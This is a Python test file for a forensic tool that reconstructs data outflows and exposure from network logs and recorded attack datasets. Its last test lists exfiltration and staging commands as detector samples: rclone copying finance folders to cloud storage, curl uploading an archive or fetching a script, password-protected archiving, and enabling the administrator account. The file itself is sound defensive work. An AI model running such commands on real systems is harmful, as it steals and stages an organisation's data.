"""What left and what was only within reach: rules on made flows, and recorded cases."""

from __future__ import annotations

from pathlib import Path

import pytest

from bedem.answers import open_view
from bedem.answers.exposure import _asset, _worst
from bedem.model.register import DataAsset
from bedem.reconstruction.exposures import _PACKS, _SENDS
from bedem.reconstruction.outflow import HABIT_DAYS, Outflow, Sent, _counts, _outflow, _usual
from bedem.reconstruction.verdicts import Picture
from tests.making import investigate

DAY = 24 * 3_600_000_000
REF = "0" * 12 + "-1"


def flow(source: str = "10.0.0.5", day: int = 20, sent: int = 5_000_000, got: int = 10) -> Sent:
    return Sent(source, "192.0.2.9", day, "zeek/conn", "s", 1, sent, got, day * DAY, day * DAY,
                [443], [REF])  # fmt: skip


def made(sent: int, got: int, called: bool) -> Outflow:
    return _outflow("pc", "192.0.2.9", [flow(sent=sent, got=got)], called)


@pytest.mark.parametrize(
    ("sent", "got", "called", "counts"),
    [
        (5_000_000, 10, False, True),
        (5_000_000, 9_000_000, False, False),
        (200_000, 10, False, False),
        (200_000, 900_000, True, True),
        (99_999, 0, True, False),
        (0, 1_000, True, True),
        (0, 1_000, False, False),
    ],
)
def test_what_counts_as_a_transfer(sent: int, got: int, called: bool, counts: bool) -> None:
    assert _counts(made(sent, got, called)) is counts


def test_no_byte_sent_is_not_measured_and_never_zero() -> None:
    assert made(0, 1_000, True).measured is False
    assert made(1, 1_000, True).measured is True


def test_destinations_of_others_and_habits_are_usual() -> None:
    own = [flow()]
    others = [flow(f"10.0.0.{n}", day=19) for n in range(10, 13)]
    assert not _usual(own, own, 20 * DAY)
    assert _usual(own + others, own, 20 * DAY)
    assert not _usual(own + others[:2], own, 20 * DAY)
    habit = [flow(day=day) for day in range(20 - HABIT_DAYS, 20)]
    assert _usual(own + habit, own, 20 * DAY)
    after = [flow(f"10.0.0.{n}", day=21) for n in range(10, 13)]
    assert not _usual(own + after, own, 20 * DAY)


def test_an_asset_has_the_worst_state_of_its_hosts() -> None:
    asset = DataAsset("a", "Owners", hosts=("db1.corp.test",), people=10)
    found = _asset(asset, {"db1": "staged", "pc": "taken"}, Picture({}, [], []))
    assert (found.state, found.people, found.reached) == ("staged", 10, [])
    assert _worst(["not_covered"]) == "not_covered"


def test_a_sensor_of_one_side_measures_nothing(shared: Path, tmp_path: Path, home: Path) -> None:
    view = open_view(investigate(tmp_path / "case", [shared / "events/attacks/lsass"], workers=2))
    answer = view.answer("exposure")
    found = answer.details["outflows"]
    assert {o["measured"] for o in found} <= {False}
    assert answer.word != "taken"
    assert any(g.message.id == "gap-volume-not-measurable" for g in answer.gaps) == bool(found)
    view.close()


def test_an_upload_names_its_file_and_not_whose_hand_it_was(
    shared: Path, tmp_path: Path, home: Path
) -> None:
    view = open_view(investigate(tmp_path / "case", [shared / "events/attacks/apt29_day1"]))
    answer = view.answer("exposure")
    told = [c for c in answer.claims if c.message.id == "exposure-trace-upload"]
    assert [(c.message.args["bytes"], c.message.args["ours"]) for c in told] == [(1_082_089, 0)]
    assert answer.word == "not_covered"
    for ref in told[0].basis:
        assert view.events.count("ref = ?", [ref]) == 1
    view.close()


@pytest.mark.parametrize(
    ("command", "sends", "packs"),
    [
        (r"rclone.exe copy C:\Finance mega:x", True, False),
        ("curl.exe -T a.7z https://192.0.2.1/", True, False),
        ("curl https://192.0.2.1/x.ps1 -o x.ps1", False, False),
        (r"C:\t\rar.exe a -hpx C:\t\d.rar C:\Finance", False, True),
        ("7z.exe x d.7z", False, False),
        ("7z.exe a d.7z C:\\Finance", False, True),
        ("net user administrator /active:yes", False, False),
        ("net use \\\\127.0.0.1\\c$", False, False),
    ],
)
def test_a_command_is_what_it_does_and_not_its_tag(command: str, sends: bool, packs: bool) -> None:
    assert bool(_SENDS.search(command.casefold())) is sends
    assert bool(_PACKS.search(command.casefold())) is packs
